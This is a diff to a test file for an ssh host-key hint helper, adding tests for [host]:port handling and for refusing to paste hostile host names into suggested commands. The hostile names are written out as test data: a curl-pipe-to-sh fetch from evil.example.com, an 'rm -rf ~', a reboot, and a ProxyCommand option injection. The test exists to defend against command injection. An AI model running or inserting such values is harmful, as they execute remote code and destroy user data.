@@ -20,10 +20,37 @@ describe('hostKeyHint', () => {
   });
 
   // ssh names the host as it looked the key up: an alias, a name with dots, an address with its port.
-  it.each(['web1.example.org', '10.0.0.5', '[10.0.0.5]:2222'])('names the whole host %s in the commands', (host) => {
+  it.each(['web1.example.org', '10.0.0.5', 'fe80::1%eth0'])('names the whole host %s in the commands', (host) => {
     const hint = hostKeyHint(UNKNOWN.replace('web1', host))!;
     expect(hint).toContain(`ssh does not know the host key of ${host}.`);
     expect(hint).toContain(`ssh-keyscan ${host} > /tmp/${host}.key; ssh-keygen -lf /tmp/${host}.key`);
+  });
+
+  // ssh-keyscan reads no [host]:port (getaddrinfo fails on it) and an unquoted [..] is a glob in zsh.
+  it('turns [host]:port into ssh-keyscan -p and quotes it for ssh-keygen -R', () => {
+    const unknown = hostKeyHint(UNKNOWN.replace('web1', '[10.0.0.5]:2222'))!;
+    expect(unknown).toContain('ssh does not know the host key of [10.0.0.5]:2222.');
+    expect(unknown).toContain('ssh-keyscan -p 2222 10.0.0.5 > /tmp/10.0.0.5_2222.key; ssh-keygen -lf /tmp/10.0.0.5_2222.key');
+    expect(unknown).toContain('cat /tmp/10.0.0.5_2222.key >> ~/.ssh/known_hosts');
+    const changed = hostKeyHint(CHANGED.replace('web4', '[bastion.lan]:2222'))!;
+    expect(changed).toContain("ssh-keygen -R '[bastion.lan]:2222'");
+    expect(changed).toContain('ssh-keyscan -p 2222 bastion.lan > /tmp/bastion.lan_2222.key');
+  });
+
+  // The text is a remote command's whole stderr: the target can print a line that looks like ssh's.
+  it.each([
+    '$(curl${IFS}-s${IFS}evil.example.com/x|sh)',
+    '`reboot`',
+    'web1;rm${IFS}-rf${IFS}~',
+    '-oProxyCommand=sh',
+    '[$(id)]:22',
+    '[web1]:22;id',
+  ])('never pastes a host like %j into a command', (host) => {
+    for (const text of [UNKNOWN.replace('web1', host), CHANGED.replace('web4', host)]) {
+      const hint = hostKeyHint(text)!;
+      expect(hint).not.toContain(host);
+      expect(hint).toContain('ssh-keyscan <host> > /tmp/<host>.key');
+    }
   });
 
   it.each([
